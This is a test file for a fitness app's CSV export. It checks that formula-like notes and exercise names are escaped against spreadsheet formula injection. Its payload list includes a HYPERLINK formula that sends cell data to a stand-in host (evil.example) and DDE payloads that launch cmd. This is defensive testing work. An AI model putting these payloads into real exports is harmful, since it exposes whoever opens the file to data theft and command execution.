/**
 * CSV exports opened in a spreadsheet: a text cell that starts like a formula (=, +, -, @,
 * tab, CR) is written with a leading ' so it stays text; numbers, negative ones too, are
 * written as numbers.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { loggedSet } from '../domain/fixtures.js';
import * as Export from './export.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

const sessions = [
  {
    date: '2026-04-08',
    sets: HOSTILE.map((note, i) => ({
      ...loggedSet({ exercise: i === 0 ? 'custom:=HYPERLINK("x")' : 'barbell-hip-thrust' }),
      note,
      loggedAt: `2026-04-08T10:0${i}:00.000Z`,
    })),
  },
];

const cells = (csv: string) =>
  Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;

describe.each([
  ['Strong', Export.strongCsv, 'Notes', 'Exercise Name', 'Weight'],
  ['Hevy', Export.hevyCsv, 'exercise_notes', 'exercise_title', 'weight_lbs'],
] as const)('%s CSV against formula injection', (_, write, notes, name, weight) => {
  const rows = cells(write(sessions, 'lb', { zone: 'UTC' }));

  it('prefixes every formula-like note with a single quote', () => {
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) expect(row[notes]?.startsWith("'")).toBe(true);
    expect(rows[0]?.[notes]).toMatch(/^'=HYPERLINK/);
    // The rest of the note is as written (the tag Thrust adds rides at its end).
    expect(rows[3]?.[notes]).toMatch(/^'-2\+3/);
  });

  it('escapes an exercise name that starts like a formula, and leaves plain names', () => {
    expect(rows[0]?.[name]).toMatch(/^'=HYPERLINK/);
    expect(rows[1]?.[name]?.startsWith("'")).toBe(false);
  });

  it('writes numbers as numbers, never escaped', () => {
    for (const row of rows) expect(row[weight]).toBe('100');
  });
});
